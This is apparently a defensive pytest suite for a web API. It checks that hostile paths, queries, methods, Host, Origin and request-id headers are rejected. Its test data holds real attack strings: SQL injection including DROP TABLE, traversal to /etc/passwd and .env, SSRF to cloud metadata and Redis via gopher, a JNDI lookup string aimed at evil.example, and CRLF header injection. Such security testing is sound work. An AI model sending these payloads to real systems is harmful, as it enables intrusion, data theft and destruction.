"""Hostile request lines and headers: paths, queries, cursors, methods, origins, hosts and request ids."""

from __future__ import annotations

import re

from tests.conftest import API
from tests.hostile.cases import Case, ask, check, raw, table
from tests.hostile.target import ORIGIN, Target, message

NOWHERE, BAD, INVALID, LONG = (
    (404, "not_found"),
    (400, "malformed_request"),
    (422, "validation_error"),
    (414, "uri_too_long"),
)
SERVED = (200, "")

IDS = {
    "zero": "0",
    "negative": "-1",
    "minus zero": "-0",
    "plus": "+1",
    "leading zero": "01",
    "float": "1.0",
    "exponent": "1e0",
    "hex": "0x1",
    "underscore": "1_",
    "word": "me",
    "null": "null",
    "NaN": "NaN",
    "past 64 bits": str(2**63),
    "unsigned 64 bits": str(2**64 - 1),
    "300 digits": "9" * 300,
    "Arabic digit": "%D9%A1",
    "full-width digit": "%EF%BC%91",
    "superscript": "%C2%B9",
    "NUL after": "1%00",
    "newline after": "1%0a",
    "space after": "1%20",
    "tab before": "%091",
    "SQL": "1%20OR%201=1",
    "SQL comment": "1--",
    "SQL union": "1%20UNION%20SELECT%201",
    "quote": "1%27",
    "template": "%7B%7B7*7%7D%7D",
    "format": "%25s",
    "wildcard": "%25",
    "star": "*",
    "list": "1,2",
    "object": "%7B%22$ne%22:0%7D",
    "matrix parameter": "1;a=b",
    "encoded slash": "1%2F2",
    "backslash": "1%5C2",
    "suffix": "1.json",
    "overlong": "%C0%B1",
    "not UTF-8": "%FF",
    "half an escape": "1%",
    "no escape": "%zz",
    "encoded twice": "%2531",
    "CRLF": "1%0d%0aX-Evil:%201",
    "UTF-16 digit": "%001",
    "zero width": "1%E2%80%8B",
}
PATHS = [
    *(ask(f"post {name}", f"GET /posts/{text}", *NOWHERE) for name, text in IDS.items()),
    *(ask(f"user {name}", f"DELETE /users/{text}", *NOWHERE, who="carol") for name, text in IDS.items()),
    *(ask(f"session {name}", f"DELETE /auth/sessions/{text}", *NOWHERE, who="alice") for name, text in IDS.items()),
    ask("slash at the end", "GET /posts/", *NOWHERE),
    ask("two slashes", "GET //api/v1//posts", *NOWHERE),
    raw("two slashes first name the same route", message("GET", f"/{API}/posts"), *SERVED),
    ask("upper case", "GET //API/V1/POSTS", *NOWHERE),
    ask("dot segment", "GET //api/v1/./posts", *NOWHERE),
    ask("two dots", "GET //api/v1/posts/../posts", *NOWHERE),
    ask("two dots to a route of administrators", "GET //api/v1/posts/../service-context", *NOWHERE),
    ask("two dots, encoded", "GET //api/v1/posts/%2e%2e/service-context", *NOWHERE),
    ask("two dots, encoded twice", "GET //api/v1/posts/%252e%252e/service-context", *NOWHERE),
    ask("two dots, overlong", "GET //api/v1/posts/%c0%ae%c0%ae/service-context", *NOWHERE),
    ask("up to a file", "GET //../../../../etc/passwd", *NOWHERE),
    ask("up to a file, encoded", "GET //%2e%2e/%2e%2e/%2e%2e/etc/passwd", *NOWHERE),
    ask("up to a file, backslashes", "GET //..%5c..%5c..%5cetc%5cpasswd", *NOWHERE),
    ask("a file", "GET //.env", *NOWHERE),
    ask("the repository", "GET //.git/config", *NOWHERE),
    ask("static files", "GET //static/../run.py", *NOWHERE),
    ask("the debugger", "GET //console", *NOWHERE),
    ask("the debugger by query", "GET //?__debugger__=yes&cmd=resource&f=debugger.js", *NOWHERE),
    ask("an actuator", "GET //actuator/env", *NOWHERE),
    ask("a problem that is a path", "GET //problems/..%2f..%2fetc%2fpasswd", *NOWHERE),
    ask("a problem that is a template", "GET //problems/%7B%7Bconfig%7D%7D", *NOWHERE),
    ask("semicolon after the route", "GET //api/v1/posts;jsessionid=1", *NOWHERE),
    ask("extension", "GET //api/v1/posts.json", *NOWHERE),
    ask("NUL after the route", "GET //api/v1/posts%00", *NOWHERE),
    ask("newline after the route", "GET //api/v1/posts%0a", *NOWHERE),
    ask("space after the route", "GET //api/v1/posts%20", *NOWHERE),
    ask("encoded slashes name the same route", "GET //api%2fv1%2fposts", *SERVED),
    ask("and are guarded as it is", "GET //%2fapi%2fv1%2fservice-context", 401, "authentication_required"),
    ask("another version", "GET //api/v2/posts", *NOWHERE),
    ask("no version", "GET //posts", *NOWHERE),
    ask("encoded letters name the same route", "GET //api/v1/%70osts", *SERVED),
    ask("9 kB path", f"GET //{'a' * 9000}", *LONG),
    ask("9 kB of slashes", f"GET //{'/' * 9000}", *LONG),
    ask("3,000 segments", f"GET //{'a/' * 3000}", *NOWHERE),
    ask("8 kB of escapes", f"GET //{'%41' * 2600}", *NOWHERE),
]

NUMBERS = ("0", "-1", "101", "1.0", "1e1", "+1", "%2B1", "0x1", "1_0", "", "%20", "%2020", "null", "true", "NaN")
NUMBERS_OF_BITS = (str(2**31), str(2**63), str(2**64), "9" * 30, "9" * 5000, "-" + "9" * 30)
ALIEN_DIGITS = ("%D9%A1", "%EF%BC%91", "%C2%B2", "1%00", "%001", "1%0a", "1;2", "1,2", "1%20OR%201=1", "[1]", "{}")
TIMES = ("yesterday", "0", "2026-01-31", "2026-13-01T00:00:00Z", "2026-01-31T25:00:00Z", "2026-01-31T00:00:00")
HOSTILE_TIMES = (
    *("0000-01-01T00:00:00Z", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00%2B23:59", "2026-01-31T00:00:00Z%00"),
    *("%D9%A2026-01-31T00:00:00Z", "2026-01-31T00:00:00%2B99:99", "now()", "2026-01-31T00:00:00Z%27--"),
)
CURSORS = {
    "empty": "",
    "word": "next",
    "dots": "..",
    "padding": "e30=",
    "zeros": "A" * 64,
    "star": "*",
    "NUL": "%00",
    "JSON": "%7B%22id%22:0%7D",
    "not base64": "%C3%A9",
    "plain base64": "%2B%2F%2B%2F",
    "SQL": "%27%20OR%201=1--",
    "pickle": "gASVCgAAAAAAAAB9lC4",
    "endless": "A" * 7000,
    "lone surrogate": "%ED%A0%80",
    "number": "0",
}
QUERIES = [
    *(
        ask(f"limit {text[:12]}-{len(text)}", f"GET /posts?limit={text}", *INVALID)
        for text in (*NUMBERS, *NUMBERS_OF_BITS)
    ),
    *(ask(f"limit alien {text}", f"GET /posts?limit={text}", *INVALID) for text in ALIEN_DIGITS),
    *(
        ask(f"page {text[:12]}-{len(text)}", f"GET /posts?page={text}", *INVALID)
        for text in ("0", "-1", "1.0", *NUMBERS_OF_BITS)
    ),
    *(
        ask(f"author {t[:12]}-{len(t)}", f"GET /posts?author_id={t}", *INVALID)
        for t in ("0", "-1", "x", *NUMBERS_OF_BITS[1:])
    ),
    *(ask(f"time {text}", f"GET /posts?created_after={text}", *INVALID) for text in (*TIMES, *HOSTILE_TIMES)),
    *(
        ask(f"cursor {name}", f"GET /posts?cursor={text}", *(BAD if name == "lone surrogate" else INVALID))
        for name, text in CURSORS.items()
    ),
    ask("page of the last 64 bits", f"GET /posts?page={2**63 - 1}", *INVALID),
    ask("page and limit overflow", f"GET /posts?page={2**62}&limit=100", *INVALID),
    ask("author of the last 64 bits", f"GET /posts?author_id={2**63 - 1}", *SERVED),
    ask("sort SQL", "GET /posts?sort=created_at%20DESC;DROP%20TABLE%20users", *INVALID),
    ask("sort by a hidden column", "GET /users?sort=password_hash", *INVALID, who="carol"),
    ask("sort by email", "GET /users?sort=email", *INVALID, who="bob"),
    ask("sort by attribute", "GET /posts?sort=__class__", *INVALID),
    ask("sort twice descending", "GET /posts?sort=--title", *INVALID),
    ask("status all", "GET /posts?status=all", *INVALID),
    ask("status of a list", "GET /posts?status[]=draft", *INVALID),
    ask("others' drafts", "GET /posts?status=draft", 401, "authentication_required"),
    ask("filter by a private member", "GET /users?role=admin", *INVALID, who="carol"),
    ask("filter with an operator", "GET /users?email[$ne]=x", *INVALID, who="carol"),
    ask("search of NUL", "GET /users?q=%00", *INVALID, who="bob"),
    ask("search of nothing", "GET /users?q=", *INVALID, who="bob"),
    ask("search of spaces", "GET /users?q=%20", *INVALID, who="bob"),
    ask("search of 81 letters", f"GET /users?q={'a' * 81}", *INVALID, who="bob"),
    ask("search of newlines", "GET /users?q=%0d%0a", *INVALID, who="bob"),
    ask("unknown parameter", "GET /posts?debug=1", *INVALID),
    ask("unknown parameter on a write", "DELETE /posts/1?force=true", *INVALID, who="alice"),
    ask("prototype parameter", "GET /posts?__proto__[x]=1", *INVALID),
    ask("parameter in upper case", "GET /posts?LIMIT=1", *INVALID),
    ask("parameter with NUL", "GET /posts?limit%00=1", *INVALID),
    ask("parameter without a name", "GET /posts?=1", *INVALID),
    ask("limit twice", "GET /posts?limit=1&limit=1", *INVALID),
    ask("limit twice, encoded", "GET /posts?limit=1&l%69mit=2", *INVALID),
    ask("limit as a list", "GET /posts?limit[]=1", *INVALID),
    ask("semicolon between", "GET /posts?limit=1;page=1", *INVALID),
    ask("page and cursor", "GET /posts?page=1&cursor=x", *INVALID),
    ask("not UTF-8", "GET /posts?limit=%FF", *BAD),
    ask("overlong", "GET /posts?limit=%C0%B1", *BAD),
    ask("encoded surrogate", "GET /posts?limit=%ED%A0%80", *BAD),
    ask("not UTF-8 in a name", "GET /posts?%FF=1", *BAD),
    ask("101 parameters", "GET /posts?" + "&".join(f"a{n}=1" for n in range(101)), *BAD),
    ask("3,000 empty parameters", "GET /posts?" + "&" * 3000, *BAD),
    ask("9 kB query", f"GET /posts?limit={'1' * 9000}", *LONG),
    ask("10 MB query", f"GET /posts?limit={'1' * 10_000_000}", *LONG),
    ask("callback", "GET /posts?callback=alert", *INVALID),
    ask("method by query", "GET /posts/1?_method=DELETE", *INVALID, who="alice"),
    ask("redirect", "GET /posts?next=https://evil.example", *INVALID),
]


@table(PATHS)
def test_an_unknown_path(target: Target, case: Case) -> None:
    check(target, case)


@table(QUERIES)
def test_an_invalid_query(target: Target, case: Case) -> None:
    check(target, case)


def test_a_search_text_is_no_pattern(target: Target) -> None:
    for text in ("%25", "_", "%5C", "%27%20OR%201=1--", "a%25", "%28%5B"):
        answer = check(target, ask(text, f"GET /users?q={text}", *SERVED, who="bob"))
        assert answer.json()["items"] == []


def test_a_stranger_cannot_search_addresses(target: Target) -> None:
    for text in ("example.com", "carol@", "@"):
        assert check(target, ask(text, f"GET /users?q={text}", *SERVED, who="bob")).json()["items"] == []
        assert check(target, ask(text, f"GET /users?q={text}", *SERVED, who="carol")).json()["items"]


def test_a_cursor_is_valid_for_its_own_list_only(target: Target) -> None:
    first = check(target, ask("first", "GET /users?limit=1", *SERVED, who="bob"))
    cursor = first.json()["pagination"]["next_cursor"]
    check(target, ask("same", f"GET /users?cursor={cursor}", *SERVED, who="bob"))
    tampered = [f"{cursor[:n]}{'B' if cursor[n] == 'A' else 'A'}{cursor[n + 1 :]}" for n in (0, 30, len(cursor) - 1)]
    for text in (*tampered, cursor + "=", cursor[:-1], cursor + "A", cursor * 2):
        check(target, ask("tampered", f"GET /users?cursor={text}", *INVALID, who="bob"))
    for path in ("/users?sort=name&", "/users?q=a&", "/posts?", "/auth/sessions?"):
        check(target, ask("elsewhere", f"GET {path}cursor={cursor}", *INVALID, who="bob"))


NOT_ALLOWED = (405, "method_not_allowed")
METHODS = [
    *(ask(method, f"{method} /posts/1", *NOT_ALLOWED, who="alice") for method in ("TRACE", "CONNECT", "POST", "COPY")),
    *(ask(f"{m} of WebDAV", f"{m} /posts", *NOT_ALLOWED) for m in ("PROPFIND", "MKCOL", "MOVE", "LOCK", "SEARCH")),
    *(
        ask(f"invented {m}", f"{m} /posts", *NOT_ALLOWED)
        for m in ("BREW", "PURGE", "DEBUG", "TRACK", "X" * 20, "QUERY")
    ),
    *(
        ask(f"malformed {m!r}", f"{m} /posts", *BAD)
        for m in ("get", "Get", "GE[T", "", "G\xcbT", "GET\x00", "\x00", "G\tT")
    ),
    ask("long method", "X" * 100 + " /posts", *BAD),
    ask("TRACE at the root", "TRACE //", *NOWHERE),
    ask("PUT of a list", "PUT /posts", *NOT_ALLOWED, who="alice"),
    ask("DELETE of a list", "DELETE /posts", *NOT_ALLOWED, who="carol"),
    ask("GET of a login", "GET /auth/login?email=a&password=b", *NOT_ALLOWED),
    ask("GET of a logout", "GET /auth/logout", *NOT_ALLOWED, who="alice"),
    ask("PATCH of the probe", "PATCH //health", *NOT_ALLOWED),
]
OVERRIDES = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method")
REWRITES = ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix", "X-Script-Name", "SCRIPT_NAME", "Base-Url")
METHODS += [
    *(ask(name, "GET /posts/1", *SERVED, who="alice", headers=[(name, "DELETE")]) for name in OVERRIDES),
    *(ask(f"POST with {n}", "POST /posts/1", *NOT_ALLOWED, who="alice", headers=[(n, "DELETE")]) for n in OVERRIDES),
    *(ask(name, "GET /posts", *SERVED, headers=[(name, "/api/v1/service-context")]) for name in REWRITES),
    raw("PRI", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", *BAD),
    raw("upgrade to h2c", message("GET", f"{API}/posts", {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABk"}), *SERVED),
    raw("HTTP/0.9", b"GET /api/v1/posts\r\n\r\n", *BAD),
    raw("HTTP/3", b"GET /api/v1/posts HTTP/3\r\nHost: h\r\n\r\n", *BAD),
    raw("version of two digits", b"GET /api/v1/posts HTTP/1.11\r\nHost: h\r\n\r\n", *BAD),
    raw("two spaces", b"GET  /api/v1/posts HTTP/1.1\r\nHost: h\r\n\r\n", *BAD),
    raw("tab for space", b"GET\t/api/v1/posts\tHTTP/1.1\r\nHost: h\r\n\r\n", *BAD),
    raw("raw NUL in the path", b"GET /api/v1/posts\x00 HTTP/1.1\r\nHost: h\r\n\r\n", *BAD),
    raw("raw byte in the path", b"GET /api/v1/p\xf6sts HTTP/1.1\r\nHost: h\r\n\r\n", *BAD),
    raw("fragment", message("GET", f"{API}/posts#x"), *SERVED),
    raw("101 fields", message("GET", f"{API}/posts", [(f"X-{n}", "1") for n in range(101)]), 431, "headers_too_large"),
    raw("9 kB field", message("GET", f"{API}/posts", {"X": "a" * 9000}), 431, "headers_too_large"),
    raw("endless name", message("GET", f"{API}/posts", {"X" * 90_000: "1"}), 431, "headers_too_large"),
    raw("control in a field", message("GET", f"{API}/posts", {"X": "a\x1b[2Jb"}), *BAD),
    raw("name of a look-alike", message("GET", f"{API}/posts", {"Auth\xf6r": "x"}), *BAD),
]


@table(METHODS)
def test_a_method_or_message_of_another_kind(target: Target, case: Case) -> None:
    answer = check(target, case)
    if answer.status == 405:
        assert answer.headers["Allow"]


HOSTS = {
    "another": "evil.example",
    "with path": "evil.example/x",
    "userinfo": "api.example.com@evil.example",
    "port": "evil.example:99999",
    "not a port": "h:port",
    "quote": 'h"x',
    "markup": "<script>",
    "empty": "",
    "loopback": "127.0.0.1:1",
    "link-local": "169.254.169.254",
    "brackets": "[::1",
    "space": "a b",
    "dots": "..",
    "percent": "%00",
    "non-ASCII": "b\xfccher.example",
    "comma": "a.example, b.example",
    "4 kB": "h" * 4000,
    "template": "{{7*7}}",
    "SQL": "' OR 1=1 --",
    "scheme": "https://evil.example",
    "null": "null",
}
FORWARDED = {
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Server": "evil.example",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Port": "1",
    "X-Forwarded-Prefix": "/evil",
    "X-Forwarded-For": "6.6.6.6",
    "Forwarded": "for=6.6.6.6;host=evil.example;proto=https",
    "X-Host": "evil.example",
    "X-Real-IP": "6.6.6.6",
}


def test_no_host_is_copied_to_a_response(target: Target) -> None:
    """A forged Host must not get into Link, Location or a body, where caches and emails would spread it."""
    for name, host in HOSTS.items():
        answer = target.send(message("GET", f"{API}/posts?page=1&limit=1", {"Host": host}))
        assert answer.status in (200, 400), name
        said = (str(answer.headers).encode() + answer.body).lower()
        assert b"evil" not in said, name
        if answer.status == 200:
            assert answer.headers["Link"].startswith("</api/v1/"), name


def test_no_forwarding_header_is_trusted(target: Target) -> None:
    """With TRUSTED_PROXIES=0 there is no proxy, so these headers are forged."""
    for name, value in FORWARDED.items():
        answer = target.send(message("GET", f"{API}/posts?page=1&limit=1", {name: value}))
        assert answer.status == 200, name
        said = (str(answer.headers).encode() + answer.body).lower()
        assert b"evil" not in said, name
        assert b"https:" not in said, name


ABSOLUTE = [
    raw("another host", message("GET", "http://evil.example/api/v1/posts?page=1"), *SERVED),
    raw(
        "userinfo",
        message("GET", "http://carol:x@api.example.com/api/v1/service-context"),
        401,
        "authentication_required",
    ),
    raw("gopher", message("GET", "gopher://127.0.0.1:6379/_FLUSHALL"), *NOWHERE),
    raw("a file", message("GET", "file:///etc/passwd"), *NOWHERE),
    raw("cloud metadata", message("GET", "http://169.254.169.254/latest/meta-data/"), *NOWHERE),
    raw("two hosts", message("GET", f"{API}/posts", [("Host", "a"), ("Host", "b")]), *BAD),
]


@table(ABSOLUTE)
def test_an_absolute_target_is_not_followed(target: Target, case: Case) -> None:
    answer = check(target, case)
    assert b"evil" not in str(answer.headers).encode() + answer.body


ORIGINS = {
    "null": "null",
    "empty": "",
    "star": "*",
    "other": "https://evil.example",
    "scheme": "http://app.example.com",
    "port": f"{ORIGIN}:8443",
    "default port": f"{ORIGIN}:443",
    "slash": f"{ORIGIN}/",
    "path": f"{ORIGIN}/x",
    "suffix": f"{ORIGIN}.evil.example",
    "prefix": "https://evilapp.example.com",
    "dot": "https://appXexample.com",
    "subdomain": "https://a.app.example.com",
    "parent": "https://example.com",
    "userinfo": f"{ORIGIN}@evil.example",
    "user": "https://x@app.example.com",
    "upper case": ORIGIN.upper(),
    "dot at the end": f"{ORIGIN}.",
    "two": f"{ORIGIN}, https://evil.example",
    "two by space": f"{ORIGIN} https://evil.example",
    "escape": f"{ORIGIN}%0d%0a",
    "backtick": f"{ORIGIN}`.evil.example",
    "brace": f"{ORIGIN}{{.evil.example",
    "underscore": f"{ORIGIN}_.evil.example",
    "file": "file://",
    "extension": "chrome-extension://abc",
    "tab": f"{ORIGIN}\t.x",
    "non-ASCII": "https://\xe4pp.example.com",
    "regular expression": "https://.*",
    "nothing but scheme": "https://",
}


def test_no_other_origin_may_read_or_write(target: Target) -> None:
    preflight = {"Access-Control-Request-Method": "DELETE", "Access-Control-Request-Headers": "authorization"}
    for name, origin in ORIGINS.items():
        for method, path, more in (
            ("GET", f"{API}/posts", {}),
            ("GET", f"{API}/auth/me", {}),
            ("OPTIONS", f"{API}/posts/1", preflight),
            ("GET", "/nowhere", {}),
        ):
            answer = target.send(message(method, path, {"Origin": origin, **more}))
            assert not [h for h in answer.headers if h.lower().startswith("access-control")], name
            assert "Origin" in str(answer.headers["Vary"]), name


def test_two_origins_are_refused(target: Target) -> None:
    answer = target.send(message("GET", f"{API}/posts", [("Origin", ORIGIN), ("Origin", "https://evil.example")]))
    assert "Access-Control-Allow-Origin" not in answer.headers


def test_the_allowed_origin_may_read(target: Target) -> None:
    for path, status in ((f"{API}/posts", 200), (f"{API}/auth/me", 401), ("/nowhere", 404)):
        answer = target.send(message("GET", path, {"Origin": ORIGIN}))
        assert (answer.status, answer.headers["Access-Control-Allow-Origin"]) == (status, ORIGIN)


REQUEST_IDS = (
    *("", " ", "a b", "a,b", "a/b", "<script>", "a;b", '"', "'", "{}", "${jndi:ldap://evil.example}", "x" * 129),
    *("x" * 8000, "\xe9", "\xff", "a\tb", "../../etc/passwd", "%0d%0aSet-Cookie:%20a=b", "' OR 1=1 --", "{{7*7}}"),
)


def test_an_invalid_request_id_is_replaced(target: Target) -> None:
    for sent in REQUEST_IDS:
        answer = target.send(message("GET", f"{API}/posts/99", {"X-Request-ID": sent}))
        assert re.fullmatch("[0-9a-f]{32}", answer.headers["X-Request-ID"]), sent
        assert answer.json()["request_id"] == answer.headers["X-Request-ID"]
    doubled = target.send(message("GET", f"{API}/posts/99", [("X-Request-ID", "one"), ("X-Request-ID", "two")]))
    assert re.fullmatch("[0-9a-f]{32}", doubled.headers["X-Request-ID"])


SPLIT = [
    raw("CRLF in a request id", message("GET", f"{API}/posts", {"X-Request-ID": "a\r\nX-Evil: 1\r\nA:b"}), *SERVED),
    raw("LF in a request id", message("GET", f"{API}/posts", {"X-Request-ID": "a\nX-Evil: 1"}), *BAD),
    raw("CR in a request id", message("GET", f"{API}/posts", {"X-Request-ID": "a\rX-Evil: 1"}), *BAD),
    raw("NUL in a request id", message("GET", f"{API}/posts", {"X-Request-ID": "a\x00"}), *BAD),
    ask("CRLF in a cursor", "GET /posts?cursor=a%0d%0aX-Evil:%201", *INVALID),
    ask("CRLF in a path", "GET //%0d%0aX-Evil:%201", *NOWHERE),
    raw("CRLF in an origin", message("GET", f"{API}/posts", {"Origin": f"{ORIGIN}\nX-Evil: 1"}), *BAD),
]


@table(SPLIT)
def test_no_response_is_split(target: Target, case: Case) -> None:
    assert "X-Evil" not in check(target, case).headers
